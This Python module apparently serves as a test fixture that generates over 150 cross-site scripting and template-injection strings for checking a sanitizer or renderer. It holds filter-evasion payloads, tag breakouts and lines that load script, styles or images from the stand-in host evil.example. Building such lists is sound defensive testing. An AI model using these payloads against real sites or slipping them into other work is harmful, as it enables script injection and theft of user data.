"""Texts that try to become scripts, handlers, frames or requests: 150 and more, by combination."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_CALL = "window.hit=1"
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{_CALL}",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror={_CALL}//",
    f"<IMG SRC=javascript:{_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_CALL}><text x=9 y=9>x</text></a></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CALL}></style></mglyph></math>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    "<iframe src=http://evil.example/></iframe>",
    f"<details open ontoggle={_CALL}><summary>x</summary></details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<video><source onerror={_CALL}></video>",
    "<video poster=http://evil.example/a.png></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<a href=JaVaScRiPt&colon;{_CALL}>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    "<a href=data:text/html,<script>1</script>>x</a>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL} form=f>x</button>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x.png)}</style>",
    "<div style='background:url(http://evil.example/x.png)'>x</div>",
    "<base href=http://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<x onclick={_CALL}>x</x>",
    f"<table background=javascript:{_CALL}>",
)
_BREAKOUTS = (
    '"><{}',
    "'><{}",
    "</span></summary></details><{}",
    "</mark></p><{}",
    "--><{}",
    "]]><{}",
    "</textarea><{}",
    "</style><{}",
)
_TEXTS = (
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f"` onmouseover=`{_CALL}",
    f"javascript:{_CALL}",
    f"![x](http://evil.example/x.png?q={_CALL})",
    f"[x](javascript:{_CALL})",
    f"${{{_CALL}}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    f"<%= {_CALL} %>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    f"\u202e<img src=x onerror={_CALL}>",
    f"\x00<img src=x onerror={_CALL}>",
    f"<img\x0bsrc=x\x0conerror={_CALL}>",
    f"\ufeff<script>{_CALL}</script>",
    f"\ud83d<script>{_CALL}</script>",
    f"＜script＞{_CALL}＜/script＞",
    f"[1]<img src=x onerror={_CALL}>[2]",
)
PAYLOADS: tuple[str, ...] = (
    *_ELEMENTS,
    *_TEXTS,
    *(
        breakout.format(element[1:])
        for breakout in _BREAKOUTS
        for element in _ELEMENTS[:: len(_ELEMENTS) // 12]
    ),
)
